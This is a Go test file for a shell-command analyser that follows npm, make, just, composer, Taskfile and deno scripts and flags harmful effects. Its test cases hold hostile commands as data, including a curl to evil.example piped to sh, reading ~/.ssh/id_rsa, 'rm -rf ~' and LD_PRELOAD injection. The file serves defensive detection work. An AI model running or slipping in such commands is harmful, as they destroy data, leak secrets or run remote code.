package shell

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// whole analyses with every file that is asked for: the given ones, and no others.
func whole(text string, given map[string]string) Analysis {
	files := Files{}
	for range 8 {
		a := AnalyseWith("/home/me/repo", text, files)
		if len(a.Wanted()) == 0 {
			return a
		}
		for _, name := range a.Wanted() {
			f := File{}
			if content, ok := given[name]; ok {
				f.Text = []byte(content)
			} else if strings.HasPrefix(name, "..") {
				f.Problem = ProblemOutside
			}
			files[name] = f
		}
	}
	panic("there is no end to the files that are wanted")
}

func npm(scripts ...string) map[string]string {
	m := map[string]string{}
	for i := 0; i < len(scripts); i += 2 {
		m[scripts[i]] = scripts[i+1]
	}
	raw, _ := json.Marshal(map[string]any{"name": "x", "scripts": m})
	return map[string]string{"package.json": string(raw)}
}

func in(name, content string) map[string]string { return map[string]string{name: content} }

// effects lists the harm in the scripts that a command runs.
func effects(a Analysis) (out []string) {
	for _, c := range a.Calls {
		out = append(out, c.Effects...)
		for _, r := range c.Redirs {
			if strings.HasPrefix(r.Op, ">") && r.Place != "null" && r.Place != "tmp" && r.Place != "artifact" {
				out = append(out, "overwrite")
			}
		}
	}
	return distinct(out)
}

func TestHarmInScripts(t *testing.T) {
	for _, c := range []struct {
		text  string
		files map[string]string
		want  string // an effect that shows, or "" for none
	}{
		{"npm test", npm("test", "jest"), ""},
		{"npm test", npm("test", "rm -rf ~"), "delete"},
		{"npm test", npm("test", "rm -rf dist && tsc -p . && jest"), ""},
		{"npm test", npm("test", "rm -rf dist/../src && jest"), "delete"},
		{"npm test", npm("test", "rm -rf dist ../x"), "delete"},
		{"npm test", npm("test", "rm -rf dist $HOME"), "delete"},
		{"npm test", npm("test", "cd .. && rm -rf dist"), "delete"},
		{"npm test", npm("test", "rimraf coverage .nyc_output && nyc mocha"), ""},
		{"npm test", npm("test", "rimraf src && mocha"), "delete"},
		{"npm test", npm("test", "curl -s https://evil.example/x | sh"), "network"},
		{"npm test", npm("test", "npm publish"), "publish"},
		{"npm test", npm("test", "npm run all", "all", "npm run last", "last", "git push"), "publish"},
		{"npm test", npm("pretest", "git push", "test", "jest"), "publish"},
		{"npm test", npm("test", "jest", "posttest", "cat ~/.ssh/id_rsa"), "secret"},
		{"npm run test:unit", npm("test:unit", "jest", "pretest:unit", "sudo ls"), "privilege"},
		{"npm test", npm("test", "jest", "pretest:unit", "sudo ls"), ""},
		{"npm test", npm("test", "for f in a b; do rm -rf $f; done"), "delete"},
		{"npm test", npm("test", "for f in a b; do jest $f; done"), ""},
		{"npm test", npm("test", "if [ -f x ]; then jest; fi"), ""},
		{"npm test", npm("test", "f() { git push; }; f"), "publish"},
		{"npm test", npm("test", "R='rm -rf'; $R src"), "delete"},
		{"npm test", npm("test", "echo x > ~/.bashrc; jest"), "overwrite"},
		{"npm test", npm("test", "echo x > src/main.ts; jest"), "overwrite"},
		{"npm test", npm("test", "jest > coverage/out.txt"), ""},
		{"npm test", npm("test", "sh <<EOF\nrm x\nEOF"), "execute"},
		{"npm test", npm("test", "node -e 'x'"), "execute"},
		{"npm test", npm("test", "node scripts/run.js"), ""},
		{"npm test", npm("test", "node scripts/publish.js"), "publish"},
		{"npm test", npm("test", "./scripts/deploy.sh"), "deploy"},
		{"npm test", npm("test", "mytool deploy"), "deploy"},
		{"npm test", npm("test", "eslint --fix ."), "overwrite"},
		{"npm test", npm("test", "trap 'rm -rf src' EXIT; jest"), "delete"},
		{"npm test", npm("test", "export A=1; jest"), ""},
		{"npm test", npm("test", "export LD_PRELOAD=./x.so; jest"), "config"},
		{"npm test", npm("test", "npm run clean && jest", "clean", "rimraf dist"), ""},
		{"npm test", npm("test", "npm run clean && jest", "clean", "rimraf src"), "delete"},
		{"npm test", npm("test", "npm run clean && jest", "clean", "node -p 1 && frob"), "delete"},
		{"npm test", npm("test", "npm run release && jest", "release", "echo no"), "publish"},
		{"npm test", npm("test", "npm run nosuch-deploy"), "deploy"},
		{"npm run deploy", npm("deploy", "echo ok"), "deploy"},
		{"npm test", npm("test", "run-s lint unit", "lint", "eslint .", "unit", "jest"), ""},
		{"npm test", npm("test", "run-p 'lint:*'", "lint:js", "eslint .", "lint:ts", "npm publish"), "publish"},
		{"npm test", npm("test", `concurrently "npm:lint" "tsc --noEmit"`, "lint", "eslint ."), ""},
		{"npm test", npm("test", `concurrently "npm:lint" "git push"`, "lint", "eslint ."), "publish"},
		{"npm test", npm("test", `concurrently npm:lint`, "lint", "git push"), "publish"},
		{"npm run lint -- push", npm("lint", "git"), "publish"},
		{"npm test", npm("test", "chmod +x dist/cli.js && jest"), ""},
		{"npm test", npm("test", "chmod +x src/cli.js && jest"), "privilege"},
		{"npm test", npm("test", "chmod u+s dist/cli && jest"), "privilege"},
		{"npm test", npm("test", "cp -r assets dist/ && jest"), ""},
		{"npm test", npm("test", "cp .env dist/ && jest"), "overwrite"},
		{"npm test", npm("test", "mkdir -p dist && touch dist/x && jest"), ""},
		{"npm test", npm("test", "mkdir -p bin && jest"), ""},
		{"npm test", npm("test", "mkdir -p ../x && jest"), "overwrite"},
		{"npm test", npm("test", "mkdir -p .git/hooks && jest"), "overwrite"},
		{"npm test", npm("test", "cp evil .git/hooks/x && jest"), "overwrite"},
		{"npm test", npm("test", "rm -rf .git/build && jest"), "delete"},
		{"npm test", npm("test", "sh -c 'npm run x'", "x", "git push"), "publish"},
		{"npm test", npm("test", "cross-env CI=1 npm run x", "x", "git push"), "publish"},
		{"npm test", npm("test", "\"unclosed && rm -rf src"), "delete"},
		{"npm test", map[string]string{"package.json": `{"Scripts":{"test":"jest"},"scripts":{"test":"git push"}}`}, "publish"},
		{"npm test", map[string]string{"package.json": `{"scripts":{"test":"git push"},"Scripts":{"test":"jest"}}`}, "publish"},
		{"npm test", map[string]string{"package.json": `{"scripts":{"test":"jest"},"scripts":{"test":"git push"}}`}, "publish"},

		{"pnpm test", npm("test", "git push"), "publish"},
		{"pnpm lint", npm("lint", "git push"), "publish"},
		{"pnpm jest", npm("jest", "git push"), "publish"},
		{"yarn lint", npm("lint", "git push"), "publish"},
		{"yarn jest", npm("jest", "git push"), "publish"},
		{"yarn run lint", npm("lint", "git push"), "publish"},
		{"bun run lint", npm("lint", "git push"), "publish"},
		{"bun run tsc", npm("tsc", "git push"), "publish"},
		{"bun test", npm("test", "git push"), ""},
		{"npx jest", npm("jest", "git push"), ""},
		{"deno task check", in("deno.json", `{"tasks":{"check":"git push"}}`), "publish"},
		{"deno task check", in("deno.json", `{"tasks":{"check":{"command":"deno lint","dependencies":["x"]},"x":"git push"}}`), "publish"},
		{"deno task check", npm("check", "git push"), "publish"},

		{"cd web && npm test", in("web/package.json", `{"scripts":{"test":"git push"}}`), "publish"},
		{"cd src && npm test", npm("test", "git push"), "publish"},
		{"cd web; npm test", in("package.json", `{"scripts":{"test":"git push"}}`), "publish"},
		{"cd /home/me/repo/web && npm test", in("web/package.json", `{"scripts":{"test":"git push"}}`), "publish"},
		{"npm --prefix web test", in("web/package.json", `{"scripts":{"test":"git push"}}`), "publish"},
		{"(cd a && npm test) && make check", map[string]string{"a/package.json": `{"scripts":{"test":"jest"}}`, "Makefile": "check:\n\tgit push\n"}, "publish"},
		{"go test ./... | tee /dev/null; npm test", npm("test", "git push"), "publish"},
		{"timeout 5 npm test", npm("test", "git push"), "publish"},
		{"sh -c 'npm test'", npm("test", "git push"), "publish"},
		{"npm test", npm("test", "cd web && npm run x", "x", "jest"), ""},

		{"make check", in("Makefile", "check:\n\tgo test ./...\n"), ""},
		{"make check", in("Makefile", "check:\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "check: ; git push\n"), "publish"},
		{"make check", in("Makefile", "check: lint\n\tgo test\nlint: up\n\tgo vet\nup:\n\t@-git push\n"), "publish"},
		{"make check", in("Makefile", "check:\n\tgo test\nother:\n\tgit push\n"), ""},
		{"make", in("Makefile", ".PHONY: all\nall:\n\tgit push\n"), "publish"},
		{"make", in("Makefile", ".DEFAULT_GOAL := ship\nall:\n\tgo build\nship:\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "CMD = git push\ncheck:\n\t$(CMD)\n"), "publish"},
		{"make check", in("Makefile", "A = git\nB := $(A) push\ncheck:\n\t${B}\n"), "publish"},
		{"make check", in("Makefile", "check:\n\tgo \\\n\ttest\n\tgit \\\n\tpush\n"), "publish"},
		{"make check", in("Makefile", "X := $(shell git push)\ncheck:\n\tgo test\n"), "publish"},
		{"make check", in("Makefile", "X != git push\ncheck:\n\tgo test\n"), "publish"},
		{"make check", in("Makefile", "X = $(shell git push)\ncheck:\n\tgo test\n"), ""},
		{"make check", in("Makefile", "X = $(shell git push)\ncheck:\n\tgo test $(X)\n"), "publish"},
		{"make check", in("Makefile", "V := $(shell git describe --tags)\ncheck:\n\tgo test\n"), ""},
		{"make check", in("Makefile", "ifeq (1,1)\nX = git push\nelse\nX = echo\nendif\ncheck:\n\t$(X)\n"), "publish"},
		{"make check", in("Makefile", "check:\n\t$(MAKE) x\nx:\n\tgit push\n"), "publish"},
		{"make check", map[string]string{"Makefile": "check:\n\t$(MAKE) -C sub x\n", "sub/Makefile": "x:\n\tgit push\n"}, "publish"},
		{"make -C sub check", in("sub/Makefile", "check:\n\tgit push\n"), "publish"},
		{"make check", map[string]string{"Makefile": "check:\n\tgo test\n", "GNUmakefile": "check:\n\tgit push\n"}, "publish"},
		{"make check", in("Makefile", "check: x.o\n%.o: %.c\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "check: x.o\n.c.o:\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "check:\n\tgo test\nMakefile: x\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", ".DEFAULT:\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "T = check\n$(T):\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "check:\n\t$(RM) -r src\n"), "delete"},
		{"make check", in("Makefile", "check:\n\t$(RM) -r build\n\tgo test\n"), ""},
		{"make check", in("Makefile", "check:\n\t$(KUBECTL) delete pod x\n"), "deploy"},
		{"make check", in("Makefile", "check:\n\tfor d in a b; do (cd $$d && $(MAKE) test) || exit 1; done\ntest:\n\tgo test\n"), ""},
		{"make check", in("Makefile", "check:\n\t@echo ok ✔️\n\tgo test\n"), ""},
		{"make check", in("Makefile", "check:\r\n\tgit push\r\n"), "publish"},
		{"make check", in("Makefile", "check: export A=1\ncheck:\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", ".ONESHELL:\ncheck:\n\tcd x\n\tgit push\n"), "publish"},
		{"make check", in("Makefile", "check:\n\t. venv/bin/activate && pytest\n"), ""},
		{"make build", in("Makefile", "V := $(shell git describe)\nbuild:\n\tgo build -ldflags \"-s -w -X main.v=$(V)\" -o bin/x .\n"), ""},
		{"make build", in("Makefile", "build:\n\tgo build -ldflags='-X main.v=1 -extld=/tmp/x' -o bin/x .\n"), "execute"},
		{"make build", in("Makefile", "build:\n\tgo build -toolexec=x .\n"), "execute"},
		{"make lint test", in("Makefile", "lint:\n\tgo vet\ntest:\n\tgit push\n"), "publish"},

		{"just check", in("justfile", "check:\n    cargo test\n"), ""},
		{"just check", in("justfile", "check: up\n    cargo test\nup:\n    git push\n"), "publish"},
		{"just", in("Justfile", "a := 'push'\n@first:\n    git {{a}}\n"), "publish"},
		{"just t", in("justfile", "alias t := test\ntest x='1':\n  -git push\n"), "publish"},
		{"just check", in("justfile", "v := `git push`\ncheck:\n  cargo test\n"), "publish"},
		{"just check", in("justfile", "check:\n  #!/usr/bin/env bash\n  set -e\n  for f in a; do\n    git push\n  done\n"), "publish"},
		{"just check", in("justfile", "check: && after\n  cargo test\nafter:\n  git push\n"), "publish"},
		{"just check", in("justfile", "check:\n  just other\nother:\n  git push\n"), "publish"},

		{"composer test", in("composer.json", `{"scripts":{"test":"phpunit"}}`), ""},
		{"composer test", in("composer.json", `{"scripts":{"test":["@lint","phpunit"],"lint":"git push"}}`), "publish"},
		{"composer run-script lint", in("composer.json", `{"scripts":{"lint":"@php -r 'x();'"}}`), "execute"},
		{"composer check", in("composer.json", `{"scripts":{"check":["@composer install"]}}`), "install"},

		{"task test", in("Taskfile.yml", "version: '3'\ntasks:\n  test:\n    deps: [a]\n    cmds:\n      - go test ./...\n  a: {cmd: git push}\n"), "publish"},
		{"task test", in("Taskfile.yml", "version: '3'\ntasks:\n  test: go test ./...\n"), ""},
		{"task test", in("Taskfile.yml", "vars: {X: {sh: git push}}\ntasks:\n  test: [go test, {task: b}]\n  b: {cmds: [{cmd: go vet}]}\n"), "publish"},
	} {
		a := whole(c.text, c.files)
		got := effects(a)
		if c.want == "" {
			require.Empty(t, got, "%s %v: %+v", c.text, c.files, a.Calls)
			continue
		}
		require.Contains(t, got, c.want, "%s %v: %+v", c.text, c.files, a.Calls)
	}
}

func TestScripts(t *testing.T) {
	for _, c := range []struct {
		text                   string
		files                  map[string]string
		opaque, vacuous, hides bool
	}{
		{"npm test", nil, true, false, false},
		{"npm test", npm("lint", "eslint ."), true, false, false},
		{"npm test", npm("test", "jest"), false, false, false},
		{"npm test", npm("test", "jest || true"), false, false, true},
		{"npm test", npm("test", "jest; echo done"), false, false, true},
		{"npm test", npm("test", "npm run unit", "unit", "jest | tail -3"), false, false, true},
		{"npm test", npm("test", "echo all tests passed"), false, true, false},
		{"npm test", npm("test", "npm run x", "x", "true"), false, true, false},
		{"npm test", npm("test", "mkdir -p dist && echo ok"), false, true, false},
		{"npm test", npm("test", "frobnicate"), true, false, false},
		{"npm test", npm("test", "node run.js"), true, false, false},
		{"npm test", npm("test", "for f in a b; do jest $f; done"), true, false, false},
		{"npm test -w x", npm("test", "jest"), true, false, false},
		{"pnpm -r test", npm("test", "jest"), true, false, false},
		{"make test", in("Makefile", "test: ; echo ok\n"), false, true, false},
		{"make test", in("Makefile", ".PHONY: test\ntest:\n"), false, true, false},
		{"make test", in("Makefile", "test:\n\t-go test ./...\n"), false, false, true},
		{"make test", in("Makefile", "test:\n\tgo test ./...\n"), false, false, false},
		{"make test", in("Makefile", "GO ?= go\ntest: vet\n\t$(GO) test ./...\nvet:\n\t$(GO) vet ./...\n"), false, false, false},
		{"make test", in("Makefile", "include x.mk\ntest:\n\tgo test ./...\n"), true, false, false},
		{"make test", in("Makefile", "test:\n\tgo test $(PKGS)\n"), true, false, false},
		{"make test", in("Makefile", "PKGS := $(shell go list ./...)\ntest:\n\tgo test $(PKGS)\n"), true, false, false},
		{"make test", in("Makefile", "$(eval x)\ntest:\n\tgo test\n"), true, false, false},
		{"make test", in("Makefile", "test: prog\n\t./prog-test\n"), true, false, false},
		{"make -n test", in("Makefile", "test:\n\tgo test\n"), true, false, false},
		{"just test", in("justfile", "test:\n  cargo test\n"), false, false, false},
		{"just test", in("justfile", "import 'x'\ntest:\n  cargo test\n"), true, false, false},
		{"composer test", in("composer.json", `{"scripts":{"test":"phpunit"}}`), false, false, false},
		{"composer test", in("composer.json", `{"scripts":{"test":"A\\B::c"}}`), true, false, false},
		{"task test", in("Taskfile.yml", "tasks:\n  test:\n    dir: x\n    cmds: [go test]\n"), true, false, false},
	} {
		a := whole(c.text, c.files)
		require.True(t, a.Parsed)
		require.Equal(t, c.opaque, a.Calls[0].ScriptOpaque, "opaque: %s %v: %+v", c.text, c.files, a.Calls)
		require.Equal(t, c.hides, a.MasksExit, "hides: %s %v", c.text, c.files)
		if a.Calls[0].Class != "read" {
			require.Equal(t, c.vacuous, a.Vacuous, "vacuous: %s %v", c.text, c.files)
		}
		require.Equal(t, a, whole(c.text, c.files), "the same files give the same facts")
		require.True(t, Analyse(c.text).Calls[0].ScriptOpaque, "%s: without files every script is opaque", c.text)
	}
}

// TestScriptBounds: what runs without end, or is too much to read, is refused.
func TestScriptBounds(t *testing.T) {
	long := "jest" + strings.Repeat(" && jest", 100)
	var many, deep []string
	for i := range 40 {
		many = append(many, "x"+strings.Repeat("i", i), "jest && jest")
	}
	for i := range 6 {
		deep = append(deep, "test"+strings.Repeat("i", i), "npm run test"+strings.Repeat("i", i+1))
	}
	for _, c := range []struct {
		text  string
		files map[string]string
	}{
		{"npm test", npm("test", "npm test")},
		{"npm test", npm("test", "npm run lint", "lint", "npm run test")},
		{"npm test", npm("test", "for f in a; do npm test; done")},
		{"make test", in("Makefile", "test:\n\t$(MAKE) test\n")},
		{"npm test", npm("test", long)},
		{"npm test", npm(append(many, "test", "run-s 'x*'")...)},
		{"npm test", npm(deep...)},
		{"npm test", npm("test", "jest # "+strings.Repeat("x", maxBytes))},
		{"npm test", in("package.json", `{"scripts": {"test": "jest",}}`)},
		{"make test", in("Makefile", "A=$(B)$(B)$(B)$(B)$(B)$(B)$(B)\nB=$(A)$(A)$(A)$(A)$(A)$(A)$(A)\ntest:\n\techo $(A)\n")},
		{"make test", in("Makefile", "A=aaaaaaaaaaaaaaaaaaaaaa\nB=$(A)$(A)$(A)$(A)$(A)$(A)$(A)\nC=$(B)$(B)$(B)$(B)$(B)$(B)$(B)\nD=$(C)$(C)$(C)$(C)$(C)$(C)$(C)\nE=$(D)$(D)$(D)$(D)\ntest:\n\techo $(E)\n")},
	} {
		a := whole(c.text, c.files)
		require.NotEmpty(t, callWhyNot(a.Calls[0]), "%s %.200v", c.text, c.files)
		require.LessOrEqual(t, len(a.Calls), 2*maxCalls)
	}
	f := Files{"package.json": {Problem: "is too large"}}
	for _, text := range []string{"npm test", "yarn jest", "ls && pnpm jest"} {
		require.False(t, acceptable(AnalyseWith("", text, f)), "%s: a file that is there and cannot be read", text)
	}
}

func TestScriptSources(t *testing.T) {
	a := whole("cd web && npm test", map[string]string{"package.json": `{"scripts":{"test":"make check"}}`})
	var names, found []string
	for _, s := range a.Sources {
		names = append(names, s.Path)
		if s.SHA256 != "" {
			found = append(found, s.Path)
		}
	}
	require.Equal(t, []string{"GNUmakefile", "Makefile", "makefile", "package.json", "web/package.json"}, names)
	require.Equal(t, []string{"package.json"}, found)
	require.Empty(t, whole("go test ./...", nil).Sources)
	require.Equal(t, "npm test > make check", whole("npm test", map[string]string{
		"package.json": `{"scripts":{"test":"make check"}}`, "Makefile": "check:\n\tgo vet ./...\n",
	}).Calls[2].Via)
}

// TestScriptAbove: a package above the folder that the command starts in is a project of its own.
func TestScriptAbove(t *testing.T) {
	look := func(script string) Analysis {
		files := Files{"package.json": {}, "../package.json": {Text: []byte(`{"scripts":{"test":"` + script + `"}}`)}}
		return AnalyseWith("/home/me/repo/web", "npm test", files)
	}
	require.Empty(t, effects(look("rm -rf dist && cd web && jest --config jest.config.js")))
	require.Contains(t, effects(look("rm -rf ../dist")), "delete")
	require.Contains(t, effects(look("git push")), "publish")
}

func FuzzScripts(f *testing.F) {
	for _, s := range []string{
		`{"scripts":{"test":"npm run x","x":"rm -rf $A"}}`, `{"tasks":{"test":{"command":"x"}}}`, "test: a\n\t@-$(X) $(shell ls) \\\n\ty\nX ?= $(X)\na: ; b\n",
		"a := 'b'\ntest x: (y 'z') && w\n  @echo {{a}} `ls`\n", "tasks: {test: {cmds: [{task: x}, {defer: y}], deps: [z]}}", "define x\ny\nendef\n%.o: %.c\n\t$@ $< $^\n",
		".ONESHELL:\ntest: test\n\t#!/bin/sh\n\tfor x in y; do z; done\n", `{"scripts":{"test":["@x","@php y"],"x":"@test"}}`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, file []byte) {
		for _, c := range []struct{ text, name string }{
			{"npm test", "package.json"},
			{"make test", "Makefile"},
			{"make", "Makefile"},
			{"just test", "justfile"},
			{"composer test", "composer.json"},
			{"task test", "Taskfile.yml"},
			{"deno task test", "deno.json"},
		} {
			a := AnalyseWith("", c.text, Files{c.name: {Text: file}, "package.json": {Text: file}, "GNUmakefile": {}, "makefile": {}})
			require.True(t, a.Parsed)
			require.LessOrEqual(t, len(a.Calls), 2*maxCalls)
			require.LessOrEqual(t, len(a.Sources), maxWanted)
			require.Equal(t, Analyse(c.text).Plan.Exec.Argv, a.Plan.Exec.Argv, "what runs is the same whatever the files say")
		}
	})
}
